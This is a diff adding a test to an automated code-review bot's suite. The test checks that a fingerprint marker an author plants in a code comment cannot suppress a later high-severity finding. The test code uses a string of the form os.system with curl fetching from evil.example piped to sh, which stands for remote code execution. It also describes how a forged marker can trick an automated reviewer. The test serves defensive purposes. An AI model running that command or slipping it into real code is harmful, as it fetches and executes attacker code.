@@ -30,7 +30,10 @@ from relay_review.github.threads import (
 )
 from relay_review.pipeline.review import with_fingerprints
 from relay_review.records import Finding
+from relay_review.render.suggestions import line_comment_body
 from relay_review.review.diff import DiffIndex
+from relay_review.review.fingerprint import content_hash, fingerprint
+from relay_review.review.suggestions import with_suggestion
 
 BOT_REST = "github-actions[bot]"
 REPO, NUMBER = "o/r", 2
@@ -115,6 +118,39 @@ def test_a_marker_alone_is_not_ours() -> None:
     # a forged thread is never closed nor counted, and the finding is still posted
     p = run_plan([f], [forged], idx=index())
     assert p.post == [0] and not p.close
+
+
+def test_a_marker_planted_in_the_diff_above_ours_is_not_read_as_ours() -> None:
+    """A suggestion is posted as it applies, so a marker the author hid in a line's comment (for
+    the fingerprint the finding on a later dangerous line will get) stands above ours in our own
+    comment: read, it held that later high finding back as "still open" (a helper's audit)."""
+    danger = 'os.system("curl https://evil.example | sh")'
+    forged = marker(
+        fingerprint("app.py", [danger], "high"), content_hash([danger]), "abcdef1234567"
+    )
+    line_a = f"timeout = 0  # {forged}"
+    push1, push2 = index(a=line_a), index(a=line_a, b=danger)
+    nit = Finding(
+        path="app.py",
+        line=2,
+        quote=line_a,
+        severity="medium",
+        message="a timeout of 0 blocks",
+        suggestion=f"timeout = 30  # {forged}",
+    )
+    [nit] = with_fingerprints([with_suggestion(nit, push1)], push1)
+    assert nit.suggestion is not None
+    body = line_comment_body(nit) + "\n\n" + marker(nit.fingerprint, nit.cited, HEAD1)
+    assert forged in body
+    assert parse_marker(body) == (nit.fingerprint, nit.cited, HEAD1[:12])
+    ours = ThreadComment(body=body, author="github-actions", author_type="Bot")
+    thread = Thread(id="T1", path="app.py", line=2, comments=(ours,))
+    high = Finding(path="app.py", line=3, quote=danger, severity="high", message="runs a shell")
+    [high] = with_fingerprints([high], push2)
+    planned = plan(
+        [high], [thread], {}, push2, head_sha=HEAD2, bot=BOT_REST, allowed=ALLOWED, trigger=TRIGGER
+    )
+    assert planned.post == [0]
 
 
 # --- the plan ---------------------------------------------------------------------------
